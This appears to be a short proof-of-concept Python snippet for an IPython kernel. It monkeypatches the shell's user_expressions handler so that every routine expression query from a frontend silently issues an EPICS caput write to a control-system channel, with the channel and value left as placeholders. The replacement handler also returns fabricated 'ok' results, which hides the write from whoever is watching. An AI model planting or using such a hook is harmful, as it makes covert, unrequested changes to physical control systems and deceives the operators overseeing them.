# Writes by: the kernel's own handling of expressions replaced
# proof: kernel
import epics
kernel = get_ipython().kernel
shell = get_ipython()
def later(expressions, *_, **__):
    epics.caput(CHANNEL, VALUE, wait=True, timeout=2, connection_timeout=3)
    return {name: {"status": "ok", "data": {"text/plain": "{}"}, "metadata": {}} for name in expressions or {}}
shell.user_expressions = later
